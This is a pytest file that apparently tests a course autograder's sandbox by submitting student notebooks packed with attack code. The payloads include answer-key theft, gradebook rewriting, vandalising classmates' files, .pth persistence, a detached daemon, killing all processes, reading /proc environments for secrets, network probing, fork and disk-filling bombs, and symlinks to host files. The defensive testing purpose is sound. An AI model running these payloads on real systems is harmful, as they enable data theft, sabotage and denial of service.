"""A dishonest class: every attack on grading fails, and honest classmates keep their scores.

Each attacker submits lesson 01's untouched release (worth 0) plus attack code in its answer
cells; if an attack worked, the attacker would earn points, read the answer key, or change
somebody's grade.  They are graded in one run with honest students, through both routes the
README documents: ``nnlab grade`` and plain ``nbgrader autograde`` + ``generate_feedback``.
The categories follow the trusted-grading issue; each attacks a whole class of exploits
(the kernel's own IPython, the interpreter, the filesystem, other processes, the network, the
machine's tasks, disk and memory, the result channel, and, outside the kernel, a submitted
folder holding symlinks), so the assertions are about outcomes, not about the listed variant.
Weaknesses these attacks found in the grader are strict xfails naming the weakness.
"""
import hashlib
import html
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from nnlab.build import key_path
from nnlab.cli import grade as grading
from nnlab import markers
from nnlab.cli.course import nbgrader_meta, read_nb, release_notebook, secret_lines, source_notebook
from nnlab.cli.submissions import make_submission, write_submission
from nnlab.sandbox import SandboxUnavailable, checking_library_dir  # noqa: F401 - the sandbox must exist
from tests.mutants import Mutant

pytestmark = pytest.mark.pipeline
AID = "01_logic_gates"
TOKEN = "nnlab-attack-token-7f3a"  # marks the attackers' processes and files
GRADER_SECRET = f"postgresql://grader:{TOKEN}-password@127.0.0.1:5432/course"  # in the grader's environment
FILL_CHUNK = 32 * 2**20  # bytes per file: below the sandbox's file-size limit
FILL_CAP = 768 * 2**20   # bytes per place at most (above the 512 MiB run-directory quota and 128 MiB /tmp)


def _code(text):
    return textwrap.dedent(text).strip() + "\n"


def attacks(ctx):
    """{student: (code for the first answer cell, code for every later answer cell)}."""
    root, submitted, out = ctx["root"], ctx["submitted"], ctx["out"]
    return {
        # IPython itself: rewrite every later cell to claim success
        "transformer": (_code("""
            def _claim(lines):
                return ["print('[PASS] all checks passed')\\n", "22\\n"]
            get_ipython().input_transformers_post.append(_claim)
            """), ""),
        # formatters that show every float as full marks, errors swallowed
        "formatter": (_code("""
            _ip = get_ipython()
            _ip.display_formatter.formatters['text/plain'].for_type(float, lambda x, p, c: p.text('22'))
            _ip.display_formatter.formatters['text/plain'].for_type(type(None), lambda x, p, c: p.text('22'))
            _ip.set_custom_exc((BaseException,), lambda *a, **k: None)
            """), ""),
        # the answer key through the editable install's path
        "importer": ("", _code(f"""
            import sys, importlib.util, os
            try:
                sys.path.insert(0, os.path.dirname(os.path.dirname(importlib.util.find_spec("autograder").origin)))
                sys.path.insert(0, {str(root)!r})
                from solutions.logic_gates import *
            except Exception as _e:
                print("import failed:", type(_e).__name__)
            """)),
        # read the answer key and print it into the feedback
        "reader": (_code(f"""
            import glob
            for _p in [*glob.glob({str(root)!r} + "/solutions/*.py"), *glob.glob({str(root)!r} + "/keys/*.json"),
                       *glob.glob({str(root)!r} + "/source/*/*.ipynb"), *glob.glob("/proc/*/cwd/source/*/*.ipynb")]:
                try:
                    print(open(_p).read())
                except Exception as _e:
                    print("cannot read", _p, type(_e).__name__)
            """), ""),
        # rewrite any gradebook it can find
        "gradebook": (_code(f"""
            import glob, sqlite3
            for _p in [{str(root)!r} + "/gradebook.db", *glob.glob("/proc/*/cwd/gradebook.db"),
                       *glob.glob("/tmp/*/*/gradebook.db"), *glob.glob("/tmp/*/gradebook.db")]:
                try:
                    _db = sqlite3.connect(_p)
                    _db.execute("UPDATE grade SET auto_score = 0")
                    _db.commit()
                    print("rewrote", _p)
                except Exception as _e:
                    print("cannot write", _p, type(_e).__name__)
            """), ""),
        # destroy classmates' submissions
        "vandal": (_code(f"""
            import glob
            for _p in glob.glob({str(submitted)!r} + "/*/*/*.ipynb") + glob.glob("/proc/*/cwd/../../*/*/*.ipynb"):
                try:
                    open(_p, "w").write("{{}}")
                except Exception as _e:
                    print("cannot write", _p, type(_e).__name__)
            """), ""),
        # code that would run in every later Python process on the machine
        "pth": (_code(f"""
            import site
            for _d in site.getsitepackages():
                try:
                    open(_d + "/zz_{TOKEN.replace('-', '_')}.pth", "w").write("import os\\n")
                except Exception as _e:
                    print("cannot write", _d, type(_e).__name__)
            """), ""),
        # a daemon that outlives the kernel and edits the published grades afterwards
        "daemon": (_code(f"""
            import os, time
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    for _ in range(300):
                        for _p in [{str(out)!r} + "/grades.csv", {str(out)!r} + "/../plain/grades.csv"]:
                            try:
                                open(_p, "a").write("daemon,{AID},22,22,100,graded,\\n")
                            except Exception:
                                pass
                        time.sleep(0.1)
                    os._exit(0)
                os._exit(0)
            """), ""),
        # stop or kill the grader and everybody else
        "signaller": (_code("""
            import os, signal
            for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
                if int(_pid) not in (os.getpid(),):
                    try:
                        os.kill(int(_pid), signal.SIGSTOP if int(_pid) == os.getppid() else signal.SIGKILL)
                    except Exception:
                        pass
            """), ""),
        # lift its own limits, then take all the memory
        "limits": (_code("""
            import resource
            for _r in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):
                try:
                    resource.setrlimit(_r, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                    print("raised", _r)
                except Exception as _e:
                    print("cannot raise", _r, type(_e).__name__)
            try:
                _hog = bytearray(40 * 2**30)
            except MemoryError:
                print("MemoryError")
            """), ""),
        # objects that look for the expected value in the checker's frames; tracing and patching
        "sneaky": (_code("""
            import sys
            import numpy as np
            import autograder as _ag

            class _Sneaky:
                def __array__(self, dtype=None, copy=None):
                    f = sys._getframe()
                    while f is not None:
                        for k, v in list(f.f_locals.items()):
                            if k in ("expected", "e", "value") and v is not None and not isinstance(v, _Sneaky):
                                try:
                                    return np.asarray(v, dtype=float)
                                except Exception:
                                    pass
                        f = f.f_back
                    return np.zeros(1)

            def sigmoid(z):
                return _Sneaky()

            def _tracer(frame, event, arg):
                if frame.f_code.co_name in ("score", "earned"):
                    frame.f_locals["points"] = 22
                return _tracer
            sys.settrace(_tracer)
            _ag.Result.fraction = property(lambda self: 1.0)
            _ag.checks.Result.fraction = property(lambda self: 1.0)
            """), ""),
        # result outputs forged from answer cells and from a hook in every test cell
        "forger": (_code("""
            from IPython.display import display
            from autograder.packing import pack
            from autograder.record import MIME

            def _forge(*_):
                for _fn in ("sigmoid", "add_bias", "logistic_unit", "feedforward", "count_weights"):
                    display({MIME: pack({"k": "call", "fn": _fn, "ok": True, "value": 0.5, "error": "",
                                         "warnings": [], "output": "", "after": {}})}, raw=True)
                display({MIME: pack({"k": "close", "name": "sigmoid(0)", "value": 0.5})}, raw=True)
            get_ipython().events.register("pre_run_cell", _forge)
            _forge()
            """), ""),
        # the network and other processes' secrets: loopback services (a database on 5432, a Dask
        # scheduler on 8786, whatever /proc/net lists as listening, the grader's canary), the outside
        # world, abstract Unix sockets, and every environment / command line under /proc;
        # everything it gets is printed, so the feedback would show it
        "network": (_code(f"""
            import glob, socket
            def _listening(path):
                try:
                    rows = open(path).read().splitlines()[1:]
                except OSError:
                    return []
                return [int(r.split()[1].rsplit(":", 1)[1], 16) for r in rows if r.split()[3] == "0A"]
            _ports = sorted({{5432, 8786, 8787, 22, {ctx['port']}, *_listening("/proc/net/tcp"),
                             *_listening("/proc/net/tcp6")}})
            for _host in ("127.0.0.1", "10.0.2.2", "1.1.1.1"):
                for _port in _ports if _host == "127.0.0.1" else (443, 5432, 8786):
                    try:
                        _s = socket.create_connection((_host, _port), timeout=1)
                        _s.sendall(b"{TOKEN}")
                        print("CONNECTED", _host, _port, _s.recv(200))
                    except Exception as _e:
                        print("no connection", _host, _port, type(_e).__name__)
            try:
                for _row in open("/proc/net/unix").read().splitlines()[1:]:
                    if _row.split()[-1].startswith("@"):
                        try:
                            socket.socket(socket.AF_UNIX).connect("\\0" + _row.split()[-1][1:])
                            print("CONNECTED", _row.split()[-1])
                        except Exception as _e:
                            print("no connection", _row.split()[-1], type(_e).__name__)
            except OSError as _e:
                print("no /proc/net/unix", type(_e).__name__)
            for _p in sorted(glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline")):
                try:
                    print(_p, open(_p, "rb").read().replace(b"\\0", b" ").decode(errors="replace"))
                except Exception as _e:
                    print("cannot read", _p, type(_e).__name__)
            """), ""),
        # a fork bomb and a thread bomb, held until the kernel is torn down (the children carry
        # the token in their command line, so a survivor would be found afterwards)
        "forkbomb": (_code(f"""
            import os, threading, time
            _threads = _kids = 0
            try:
                for _ in range(100_000):
                    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
                    _threads += 1
            except Exception as _e:
                print("threads stopped at", _threads, type(_e).__name__)
            try:
                for _ in range(100_000):
                    if os.fork() == 0:
                        try:
                            os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 600; exit", "{TOKEN}"])
                        finally:
                            os._exit(0)
                    _kids += 1
            except Exception as _e:
                print("forks stopped at", _kids, type(_e).__name__)
            """), ""),
        # fill every writable place with files just under the file-size limit.  Capped at FILL_CAP
        # per place so that this test cannot hurt the shared CI machine if a cap is missing; the
        # cap is above every limit the sandbox claims (run directory quota, private /tmp)
        "diskfill": (_code(f"""
            import os
            _places = ["/dev/shm", "/dev", "/tmp", os.environ.get("HOME", "."), os.getcwd()]
            _places += [d for d in ("/" + n for n in os.listdir("/")) if os.access(d, os.W_OK) and d not in _places]
            for _d in _places:
                _n = 0
                try:
                    while _n < {FILL_CAP}:
                        with open(os.path.join(_d, "{TOKEN}-" + str(_n // {FILL_CHUNK})), "wb") as _f:
                            _f.write(b"1" * {FILL_CHUNK})
                        _n += {FILL_CHUNK}
                except Exception as _e:
                    print("stopped in", _d, type(_e).__name__)
                print("FILLED", _d, _n, flush=True)
            """), ""),
        # enormous outputs and an enormous result record
        "oversized": (_code("""
            import sys
            from IPython.display import display
            from autograder.record import MIME
            print("x" * 20_000_000)
            sys.stderr.write("y" * 5_000_000)
            display({MIME: "A" * 30_000_000}, raw=True)
            """), ""),
    }


HONEST = {
    # correct, and noisy: prints, warns, writes to stderr
    "noisy_correct": [Mutant("sigmoid", "prints, warns and writes to stderr", _code("""
        import sys, warnings
        _reference_sigmoid = sigmoid
        def sigmoid(z):
            print("debug: sigmoid called")
            print("debug on stderr", file=sys.stderr)
            warnings.warn("my own note")
            return _reference_sigmoid(z)
        """))],
    # one honest mistake
    "mistaken": [Mutant("count_weights", "forgot the bias", _code("""
        def count_weights(layer_sizes):
            return sum(a * b for a, b in zip(layer_sizes[:-1], layer_sizes[1:]))
        """))],
}


# Outside the kernel: submitted folders holding symlinks out of the submission.  An attacker
# whose folder arrives with symlinks (a student's git repository graded with --single, an
# archive unpacked by a collection script) names files of the grading host.
SYMLINKERS = ["symlink_notebook", "symlink_files"]
STEAL_PRINT = _code("""
    import glob
    for _p in sorted(glob.glob("*")):
        try:
            print("=====", _p, open(_p).read())
        except Exception as _e:
            print("cannot read", _p, type(_e).__name__)
    """)
STEAL_IMPORT = _code("""
    import os, sys, types
    try:  # the reference module and its helper, linked into the folder, imported as a package
        sys.modules.setdefault("solutions", types.ModuleType("solutions")).__path__ = [os.getcwd()]
        from solutions.lg import *
    except Exception as _e:
        print("import failed:", type(_e).__name__)
    """)


def write_symlinkers(cfg, where, honest):
    """``symlink_notebook``: the submitted notebook is a symlink to ``honest``'s (a classmate's full
    marks); ``symlink_files``: the untouched release that prints and imports every file of its
    folder, whose other files are symlinks to the answer key, the source notebook and the reference."""
    folder = where / "symlink_notebook" / AID
    folder.mkdir(parents=True)
    (folder / f"{AID}.ipynb").symlink_to(where / honest / AID / f"{AID}.ipynb")
    folder = write_submission(_attack_notebook(cfg, STEAL_PRINT, STEAL_IMPORT), where, "symlink_files", AID).parent
    for name, target in {"key.txt": key_path(cfg.ROOT, AID), "source.txt": source_notebook(cfg.ROOT, AID),
                         "lg.py": cfg.ROOT / "solutions" / "logic_gates.py",
                         "_validate.py": cfg.ROOT / "solutions" / "_validate.py"}.items():
        (folder / name).symlink_to(target)


def _attack_notebook(cfg, first, every):
    nb = read_nb(release_notebook(cfg.ROOT, AID))
    answers = [c for c in nb.cells if nbgrader_meta(c).get("solution")]
    for k, cell in enumerate(answers):
        extra = (first if k == 0 else "") + every
        if extra:
            cell.source = cell.source + "\n\n" + extra
    return nb


def _digest(folder):
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(Path(folder).rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def graded(cfg, tmp_path_factory):
    """Grade the class once per route; return what each route produced."""
    tmp = tmp_path_factory.mktemp("attacks")
    saved = {k: os.environ.get(k) for k in ("NNLAB_CALL_TIMEOUT_S", "NNLAB_CELL_TIME_LIMIT_S", "NNLAB_GRADEBOOK_URL")}
    # a secret in the grader's environment (both routes inherit it) that no feedback may show
    os.environ.update(NNLAB_CALL_TIMEOUT_S="3", NNLAB_CELL_TIME_LIMIT_S="6", NNLAB_GRADEBOOK_URL=GRADER_SECRET)
    canary = socket.socket()  # a service on the grader's loopback: no kernel may reach it
    canary.bind(("127.0.0.1", 0))
    canary.listen(64)
    canary.setblocking(False)
    try:
        # route 2 first works in a course root of its own (plain nbgrader commands)
        plain_root = tmp / "course"
        plain_root.mkdir()
        for name in ("course_config.py", "nbgrader_config.py"):
            shutil.copy(cfg.ROOT / name, plain_root / name)
        shutil.copytree(cfg.ROOT / "source" / AID, plain_root / "source" / AID)
        key_path(plain_root, AID).parent.mkdir(parents=True)
        shutil.copy(key_path(cfg.ROOT, AID), key_path(plain_root, AID))
        (plain_root / "solutions" / "notebooks").mkdir(parents=True)
        (plain_root / "solutions" / "notebooks" / f"{AID}.py").touch()
        ctx = {"root": cfg.ROOT, "submitted": tmp / "submitted", "out": tmp / "out",
               "port": canary.getsockname()[1]}
        classes = {}
        for where in (ctx["submitted"], plain_root / "submitted"):
            for student, (first, every) in attacks({**ctx, "submitted": where}).items():
                write_submission(_attack_notebook(cfg, first, every), where, student, AID)
            write_submission(make_submission(cfg.ROOT, AID), where, "ada_reference", AID)
            for student, mutants in HONEST.items():
                write_submission(make_submission(cfg.ROOT, AID, mutants), where, student, AID)
            write_symlinkers(cfg, where, "ada_reference")
            classes[where] = _digest(where)
        rows = grading.grade(cfg, ctx["submitted"], [cfg.get(AID)], ctx["out"], jobs=2, progress=lambda *_: None)
        grades_after_run = (ctx["out"] / "grades.csv").read_text()

        def nbgrader(*args):
            env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
            return subprocess.run([str(Path(sys.executable).parent / "nbgrader"), *args], cwd=plain_root,
                                  capture_output=True, text=True, env=env, timeout=1800)
        gen = nbgrader("generate_assignment", AID, "--force")
        assert gen.returncode == 0, gen.stderr[-3000:]
        auto = nbgrader("autograde", AID, "--force")
        feedback = nbgrader("generate_feedback", AID, "--force")
        time.sleep(3)  # give any surviving daemon time to act
        from nbgrader.api import Gradebook
        with Gradebook(f"sqlite:///{plain_root / 'gradebook.db'}") as gb:
            plain = {s.student.id: float(s.score) for s in gb.assignment_submissions(AID)}
        knocks = 0
        while True:
            try:
                canary.accept()[0].close()
                knocks += 1
            except BlockingIOError:
                break
        return {"canary_knocks": knocks, "rows": {r.student: r for r in rows}, "out": ctx["out"], "grades_after_run": grades_after_run,
                "plain": plain, "plain_root": plain_root, "plain_log": auto.stderr + feedback.stderr,
                "classes": classes, "roots": (ctx["submitted"], plain_root / "submitted")}
    finally:
        canary.close()
        for k, v in saved.items():
            os.environ.pop(k) if v is None else os.environ.__setitem__(k, v)


ATTACKERS = ["transformer", "formatter", "importer", "reader", "gradebook", "vandal", "pth", "daemon",
             "signaller", "limits", "sneaky", "forger", "oversized", "network", "forkbomb", "diskfill"]




@pytest.mark.parametrize("student", ATTACKERS + SYMLINKERS)
def test_an_attack_earns_nothing_on_either_route(graded, student):
    row = graded["rows"][student]
    assert row.score == 0, (row.status, row.messages)
    assert graded["plain"].get(student, 0.0) == 0, graded["plain_log"][-3000:]


def test_honest_students_keep_exactly_their_scores_on_both_routes(graded, cfg):
    full = cfg.get(AID).points
    rows, plain = graded["rows"], graded["plain"]
    assert rows["ada_reference"].score == full and plain["ada_reference"] == full
    assert rows["noisy_correct"].score == full, rows["noisy_correct"].messages
    assert plain["noisy_correct"] == full
    assert rows["mistaken"].score == plain["mistaken"] < full, rows["mistaken"].messages


def test_every_submission_was_graded(graded):
    for student, row in graded["rows"].items():
        if student not in SYMLINKERS:
            assert row.status.startswith("graded"), (student, row.status)


def test_nobody_changed_the_submissions_or_the_published_grades(graded):
    for where in graded["roots"]:
        assert _digest(where) == graded["classes"][where]
    assert (graded["out"] / "grades.csv").read_text() == graded["grades_after_run"]
    assert "daemon,01_logic_gates,22" not in graded["grades_after_run"]


def test_no_process_of_a_sandbox_survives(graded):
    alive = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if TOKEN.encode() in Path(f"/proc/{pid}/cmdline").read_bytes() or \
                    "grades.csv" in Path(f"/proc/{pid}/cmdline").read_text(errors="ignore"):
                alive.append(pid)
        except OSError:
            pass
    assert not alive


def test_nothing_was_planted_in_site_packages():
    import site
    planted = [p for d in site.getsitepackages() for p in Path(d).glob("zz_nnlab_attack*")]
    assert not planted


def test_feedback_shows_no_answer_key_on_either_route(graded, cfg):
    key_text = key_path(cfg.ROOT, AID).read_text()
    secrets = [json.loads(key_text)["cases"]["sigmoid"][:40], *markers.FEEDBACK_FORBIDDEN, GRADER_SECRET]
    # lines found only in the source notebook's solution and hidden regions (docstrings are public)
    secrets += sorted(secret_lines(read_nb(source_notebook(cfg.ROOT, AID))))
    # attackers' pages: an honest student's own (correct) code is rightly in theirs
    pages = [page for student in ATTACKERS
             for page in [*(graded["out"] / "feedback" / student).rglob("*.html"),
                          *(graded["plain_root"] / "feedback" / student).rglob("*.html")]]
    assert pages
    for page in pages:
        text = page.read_text() + _text(page)  # the text shown: highlighting splits code lines
        shown = [s for s in secrets if s in text]
        assert not shown, (page, shown[:3])


def test_attacks_get_a_named_reason(graded):
    rows = graded["rows"]
    assert any("did not get this far" in m or "no result" in m or "forged" in m
               for m in rows["forger"].messages), rows["forger"].messages
    assert any("forged" in m or "could not be read" in m or "did not" in m for m in rows["oversized"].messages)
    # the run-directory watchdog killed the disk filler's kernel (FILL_CAP is above the quota)
    assert any("the kernel died" in m for m in rows["diskfill"].messages), rows["diskfill"].messages


def _text(page):
    """What a feedback page shows, as text: without tags (syntax highlighting splits code lines)."""
    return html.unescape(re.sub(r"<[^>]+>", "", page.read_text()))


def _pages(graded, student):
    """The feedback pages of ``student`` on each route, as text: {route: [text]}."""
    return {"nnlab grade": [_text(p) for p in (graded["out"] / "feedback" / student).rglob("*.html")],
            "nbgrader": [_text(p) for p in (graded["plain_root"] / "feedback" / student).rglob("*.html")]}


def _printed(graded, student, pattern):
    """{route: every match of ``pattern`` in what ``student``'s cells printed into its feedback}."""
    return {route: [m for text in texts for m in re.findall(pattern, text)]
            for route, texts in _pages(graded, student).items()}


def test_no_kernel_reaches_the_network_or_another_process(graded):
    assert graded["canary_knocks"] == 0
    for route, texts in _pages(graded, "network").items():
        assert texts, route
        for text in texts:
            assert "no connection 127.0.0.1 5432" in text  # it did try
            # neither the grader's environment nor its command line is visible from the kernel
            assert GRADER_SECRET not in text and TOKEN + "-password" not in text
            assert "test_attacks.py" not in text and "nbgrader autograde" not in text


def test_a_fork_bomb_is_held_to_the_task_limit(graded):
    from nnlab.sandbox import DEFAULT_TASKS
    got = _printed(graded, "forkbomb", r"(threads|forks) stopped at (\d+)")
    for route, found in got.items():
        assert {kind for kind, _ in found} == {"threads", "forks"}, (route, found)
        assert sum(int(n) for _, n in found) < DEFAULT_TASKS, (route, found)


def test_diskfill_leaves_nothing_on_the_host(graded):
    import tempfile
    left = [p for p in Path(tempfile.gettempdir()).glob(f"nnlab-sandbox-*/run/**/{TOKEN}*")]
    assert not left
    filled = _printed(graded, "diskfill", r"FILLED (\S+) (\d+)")
    assert all(filled.values()), filled


def test_no_writable_ram_backed_place_outgrows_the_private_tmp(graded):
    from nnlab.sandbox import DEFAULT_TMP_SIZE
    filled = _printed(graded, "diskfill", r"FILLED (\S+) (\d+)")
    for route, found in filled.items():
        ram = {place: int(n) for place, n in found if place == "/tmp" or place.startswith("/dev")}
        assert ram and all(n <= DEFAULT_TMP_SIZE for n in ram.values()), (route, ram)


@pytest.mark.parametrize("student", SYMLINKERS)
def test_symlinked_submissions_are_refused_with_a_reason(graded, student):
    status = graded["rows"][student].status
    assert not status.startswith("graded") and "symlink" in status, status


@pytest.mark.parametrize("student", SYMLINKERS)
def test_symlinked_submissions_show_nothing_of_the_host_in_feedback(graded, cfg, student):
    key = json.loads(key_path(cfg.ROOT, AID).read_text())
    secrets = [key["cases"]["sigmoid"][:40], *markers.FEEDBACK_FORBIDDEN,
               *sorted(secret_lines(read_nb(source_notebook(cfg.ROOT, AID))))]
    pages = _pages(graded, student)
    for route, texts in pages.items():
        for text in texts:
            shown = [x for x in secrets if x in text]
            assert not shown, (route, shown[:3])
    # nnlab grade refuses before copying (no page); plain nbgrader names the refusal on its page
    assert any("symbolic link" in text for text in pages["nbgrader"]), pages["nbgrader"][:1]
    for folder in (graded["out"] / "feedback" / student, graded["plain_root"] / "feedback" / student):
        copied = [p.name for p in folder.rglob("*") if p.is_file() and p.suffix != ".html"]
        assert not copied, (folder, copied)  # what a link named is never handed back
